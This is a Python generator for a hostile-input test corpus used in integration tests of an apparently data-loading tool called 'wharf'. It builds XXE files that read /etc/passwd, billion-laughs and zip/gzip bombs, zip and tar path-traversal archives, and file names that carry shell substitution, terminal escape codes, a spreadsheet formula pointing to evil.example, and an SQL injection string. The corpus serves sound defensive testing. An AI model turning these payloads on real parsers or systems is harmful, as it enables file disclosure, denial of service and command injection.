#!/usr/bin/env python3
"""Hostile-input corpus for wharf (tests/integration/hostile.sh).

    generate.py OUTDIR

writes one file per case into OUTDIR (stdlib only: zipfile, tarfile, gzip).
tests/corpus/expected.tsv says, per case, which test profile it goes through,
the outcome wharf must reach and a substring of the reason it must give.
Nothing here is checked in as binary: the cases are rebuilt every run, so
the biggest ones (a 100 MB line, a 100,000-entry tar, a gzip bomb) cost disk
only in the test's temp dir.

Profiles (made by hostile.sh): csv (orders Table Schema, encoding auto),
utf8 (the same, encoding: utf-8), xml (orders.xsd, /orders/order).
"""
import gzip
import io
import os
import sys
import tarfile
import zipfile
import zlib

HEADER = "order_id,customer,amount\n"
ROWS = "".join("%d,customer %d,%d.50\n" % (i, i, i) for i in range(1, 6))
VALID = HEADER + ROWS

XML_OK = """<?xml version="1.0" encoding="UTF-8"?>
<orders>
  <order id="1" currency="EUR"><customer>Acme</customer><date>2026-11-28</date><sku>ABC-1234</sku><quantity>2</quantity><unit_price>9.50</unit_price></order>
</orders>
"""
ORDER = ('<order id="1"><customer>%s</customer><date>2026-11-28</date><sku>ABC-1234</sku>'
         '<quantity>1</quantity><unit_price>1.00</unit_price></order>')


def w(d, name, data, mode=0o644):
    p = os.path.join(d, name)
    with open(p, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    os.chmod(p, mode)
    return p


def tar_with(d, name, members, compress=""):
    """members: list of (TarInfo, bytes or None)."""
    with tarfile.open(os.path.join(d, name), "w" + (":" + compress if compress else ""),
                      format=tarfile.GNU_FORMAT) as t:
        for ti, data in members:
            t.addfile(ti, io.BytesIO(data) if data is not None else None)


def ti(name, typ=tarfile.REGTYPE, size=0, **kw):
    i = tarfile.TarInfo(name)
    i.type = typ
    i.size = size
    i.mode = 0o644
    i.mtime = 1795873863
    for k, v in kw.items():
        setattr(i, k, v)
    return i


def xml_cases(d):
    w(d, "xml_valid.xml", XML_OK)
    w(d, "xxe_local.xml", '<?xml version="1.0"?>\n<!DOCTYPE orders [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
      + "<orders>" + ORDER % "&x;" + "</orders>\n")
    w(d, "xxe_network.xml", '<?xml version="1.0"?>\n<!DOCTYPE orders [<!ENTITY x SYSTEM "http://127.0.0.1:9/evil">]>\n'
      + "<orders>" + ORDER % "&x;" + "</orders>\n")
    w(d, "xxe_parameter.xml", '<?xml version="1.0"?>\n<!DOCTYPE orders [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>\n'
      + "<orders>" + ORDER % "x" + "</orders>\n")
    w(d, "xxe_external_dtd.xml", '<?xml version="1.0"?>\n<!DOCTYPE orders SYSTEM "file:///etc/passwd">\n'
      + "<orders>" + ORDER % "x" + "</orders>\n")
    lol = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else "lol%d" % (i - 1)
        lol.append('<!ENTITY lol%d "%s">' % (i, ("&%s;" % prev) * 10))
    w(d, "billion_laughs.xml", '<?xml version="1.0"?>\n<!DOCTYPE orders [\n' + "\n".join(lol) + "\n]>\n"
      + "<orders>" + ORDER % "&lol9;" + "</orders>\n")
    w(d, "quadratic_blowup.xml", '<?xml version="1.0"?>\n<!DOCTYPE orders [<!ENTITY a "' + "x" * 50000 + '">]>\n'
      + "<orders>" + ORDER % ("&a;" * 50000) + "</orders>\n")
    w(d, "doctype_internal.xml", '<?xml version="1.0"?>\n<!DOCTYPE orders [<!ELEMENT orders ANY>]>\n' + XML_OK.split("\n", 1)[1])
    n = 100000
    w(d, "deep_nesting.xml", '<?xml version="1.0"?>\n<orders>' + "<a>" * n + "</a>" * n + "</orders>\n")
    # 200,000 namespace declarations / 100,000 attributes on one element:
    # libxml2's duplicate check is quadratic in them (15 s / 4.5 s); refused
    # past limits.max_attributes before the parser reads them
    w(d, "xmlns_200k.xml", '<?xml version="1.0"?>\n<orders '
      + " ".join('xmlns:p%d="urn:p%d"' % (i, i) for i in range(200000)) + ">"
      + ORDER % "x" + "</orders>\n")
    w(d, "attrs_100k.xml", '<?xml version="1.0"?>\n<orders>\n <order '
      + " ".join('a%d="%d"' % (i, i) for i in range(100000)) + "/></orders>\n")
    w(d, "xinclude.xml", '<?xml version="1.0"?>\n<orders xmlns:xi="http://www.w3.org/2001/XInclude">'
      '<xi:include href="file:///etc/passwd" parse="text"/></orders>\n')


def archive_cases(d):
    # zip slip and absolute paths
    with zipfile.ZipFile(os.path.join(d, "zip_slip.zip"), "w") as z:
        z.writestr("../../evil_zipslip.csv", VALID)
    with zipfile.ZipFile(os.path.join(d, "zip_absolute.zip"), "w") as z:
        z.writestr(zipfile.ZipInfo("/tmp/wharf_evil_absolute.csv"), VALID)
    tar_with(d, "tar_slip.tar", [(ti("../../evil_tarslip.csv", size=len(VALID)), VALID.encode())])
    tar_with(d, "tar_absolute.tar", [(ti("/tmp/wharf_evil_tarabs.csv", size=len(VALID)), VALID.encode())])
    tar_with(d, "tar_symlink.tar", [(ti("orders.csv", tarfile.SYMTYPE, linkname="/etc/passwd"), None)])
    tar_with(d, "tar_hardlink.tar", [(ti("a.csv", size=len(VALID)), VALID.encode()),
                                     (ti("b.csv", tarfile.LNKTYPE, linkname="/etc/passwd"), None)])
    tar_with(d, "tar_chardev.tar", [(ti("dev.csv", tarfile.CHRTYPE, devmajor=1, devminor=3), None)])
    tar_with(d, "tar_blockdev.tar", [(ti("blk.csv", tarfile.BLKTYPE, devmajor=7, devminor=0), None)])
    tar_with(d, "tar_fifo.tar", [(ti("fifo.csv", tarfile.FIFOTYPE), None)])
    # 100,000 entries (gzip keeps the headers small on disk)
    with tarfile.open(os.path.join(d, "tar_100k_entries.tar.gz"), "w:gz", compresslevel=1) as t:
        row = VALID.encode()
        for i in range(100000):
            t.addfile(ti("e%06d.csv" % i, size=len(row)), io.BytesIO(row))
    tar_with(d, "tar_empty_member.tar", [(ti("empty.csv"), None)])
    # the same member twice under spellings of one path: d/b.csv = d//b.csv = d/./b.csv
    other = VALID.replace("customer 1,", "customer 1 (second copy),").encode()
    tar_with(d, "tar_dup_doubleslash.tar", [(ti("d/b.csv", size=len(VALID)), VALID.encode()),
                                            (ti("d//b.csv", size=len(other)), other)])
    tar_with(d, "tar_dup_dot.tar", [(ti("d/b.csv", size=len(VALID)), VALID.encode()),
                                    (ti("d/./b.csv", size=len(other)), other)])
    with zipfile.ZipFile(os.path.join(d, "zip_dup_doubleslash.zip"), "w") as z:
        z.writestr("d/b.csv", VALID)
        z.writestr("d//b.csv", other)
    with zipfile.ZipFile(os.path.join(d, "zip_dup_dot.zip"), "w") as z:
        z.writestr("d/b.csv", VALID)
        z.writestr("./d/./b.csv", other)
    # gzip bomb: 1 GiB of zeros in ~1 MB (ratio ~1000, over the default 200)
    with open(os.path.join(d, "gzip_bomb.csv.gz"), "wb") as f:
        g = gzip.GzipFile(fileobj=f, mode="wb", compresslevel=9, mtime=0)
        g.write(HEADER.encode())
        chunk = b"0" * (1 << 20)
        for _ in range(1024):
            g.write(chunk)
        g.close()
    # nested zip bomb: zips of zips, each level 10 copies of the level below
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("orders.csv", HEADER + "0" * (64 << 20))
    data = inner.getvalue()
    for level in range(3):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
            for i in range(10):
                z.writestr("l%d_%d.zip" % (level, i), data)
        data = b.getvalue()
    w(d, "nested_zip_bomb.zip", data)
    # truncated and corrupt archives
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("orders.csv", VALID * 200)
    w(d, "truncated.zip", b.getvalue()[: len(b.getvalue()) // 2])
    gz = gzip.compress((VALID * 200).encode(), mtime=0)
    w(d, "truncated.csv.gz", gz[: len(gz) // 2])
    w(d, "corrupt.csv.gz", gz[:20] + bytes((x ^ 0x5A) for x in gz[20:60]) + gz[60:])
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:gz") as t:
        t.addfile(ti("orders.csv", size=len(VALID)), io.BytesIO(VALID.encode()))
    tgz = b.getvalue()
    w(d, "corrupt.tar.gz", tgz[:12] + os.urandom(len(tgz) - 12) if False else tgz[:12] + bytes(((i * 7919) & 0xFF) for i in range(len(tgz) - 12)))
    w(d, "truncated.tar", tarfile_bytes([(ti("orders.csv", size=len(VALID) * 50), (VALID * 50).encode())])[:700])
    # controls: good archives load
    with zipfile.ZipFile(os.path.join(d, "good.zip"), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("orders.csv", VALID)
    tar_with(d, "good.tar.gz", [(ti("orders.csv", size=len(VALID)), VALID.encode())], "gz")
    w(d, "good.csv.gz", gzip.compress(VALID.encode(), mtime=0))


def tarfile_bytes(members):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.GNU_FORMAT) as t:
        for i, data in members:
            t.addfile(i, io.BytesIO(data))
    return b.getvalue()


def text_cases(d):
    w(d, "valid.csv", VALID)
    w(d, "invalid_utf8.csv", HEADER.encode() + b"1,caf\xc3\x28 \xff\xfe bad,1.50\n")
    w(d, "overlong_utf8.csv", HEADER.encode() + b"1,\xc0\xaf slash,1.50\n")
    w(d, "nul_bytes.csv", HEADER.encode() + b"1,nul\x00here,1.50\n")
    with open(os.path.join(d, "long_line.csv"), "wb") as f:
        f.write(HEADER.encode() + b"1,")
        chunk = b"x" * (1 << 20)
        for _ in range(100):
            f.write(chunk)
        f.write(b",1.50\n")
    w(d, "unclosed_quote.csv", HEADER + '1,"never closed,1.50\n2,b,2.50\n')
    body = VALID
    w(d, "bom_utf8.csv", b"\xef\xbb\xbf" + body.encode())
    w(d, "bom_utf16le.csv", b"\xff\xfe" + body.encode("utf-16-le"))
    w(d, "bom_utf16be.csv", b"\xfe\xff" + body.encode("utf-16-be"))
    w(d, "bom_utf32le.csv", b"\xff\xfe\x00\x00" + body.encode("utf-32-le"))
    w(d, "bom_utf32be.csv", b"\x00\x00\xfe\xff" + body.encode("utf-32-be"))
    w(d, "bom_utf7.csv", b"+/v8-" + body.encode())
    w(d, "bom_gb18030.csv", b"\x84\x31\x95\x33" + body.encode())
    w(d, "bom_utf1.csv", b"\xf7\x64\x4c" + body.encode())
    w(d, "bom_utf_ebcdic.csv", b"\xdd\x73\x66\x73" + body.encode())
    w(d, "bom_scsu.csv", b"\x0e\xfe\xff" + body.encode())
    w(d, "bom_bocu1.csv", b"\xfb\xee\x28" + body.encode())
    w(d, "bom_utf8_twice.csv", b"\xef\xbb\xbf\xef\xbb\xbf" + body.encode())
    lines = body.split("\n")[:-1]
    eols = ["\r\n", "\n", "\r", "\r\n", "\n", "\r"]
    w(d, "mixed_eol.csv", "".join(l + eols[i % len(eols)] for i, l in enumerate(lines)))
    w(d, "empty.csv", b"")
    w(d, "header_only.csv", HEADER)
    w(d, "header_inject.csv", 'a"; DROP TABLE x; --,customer,amount\n1,b,1.50\n')
    w(d, "binary_garbage.csv", bytes(((i * 131) ^ (i >> 3)) & 0xFF for i in range(4096)))


def name_cases(d):
    names = {
        "name_spaces": "name with spaces.csv",
        "name_newline": "name\nwith\nnewlines.csv",
        "name_quotes": "name \"with\" 'quotes'.csv",
        "name_nonascii": "bestellungen_\u00fc\u00e4\u00f6_\u65e5\u672c.csv",
        "name_dash": "-leading-dash.csv",
        "name_255": ("n" * 251) + ".csv",
        "name_shell": "$(touch pwned);`id`.csv",
        "name_ctrl": "ctrl\x1b[31mred\x07.csv",
        "name_osc": "osc\x1b]0;retitled\x07\x1b[2J.csv",
        "name_forge": "forge\n01ZZZZZZZZZZZZZZZZZZZZZZZZ  csv  REJECTED x.csv\n.csv",
        "name_c1": "c1\u009b31m.csv",
        "name_bidi": "bidi\u202evsc.exe.csv",
        "name_formula": '=HYPERLINK("evil.example?x","click").csv',
        "name_percent": "100%.csv",
        "name_backslash": "back\\x1bslash.csv",
    }
    out = {}
    for n, (key, name) in enumerate(sorted(names.items())):
        # unique content, so each one is loaded (not skipped as a duplicate)
        w(d, name, HEADER + "%d,%s,1.00\n" % (1000 + n, key))
        out[key] = name
    # not UTF-8: kept (escaped) in --json, never dropped
    w(d, b"latin1_gr\xfc\xdfe.csv".decode("utf-8", "surrogateescape"), HEADER + "1100,latin1,1.00\n")
    return out


def main():
    d = sys.argv[1]
    os.makedirs(d, exist_ok=True)
    xml_cases(d)
    archive_cases(d)
    text_cases(d)
    name_cases(d)


if __name__ == "__main__":
    main()
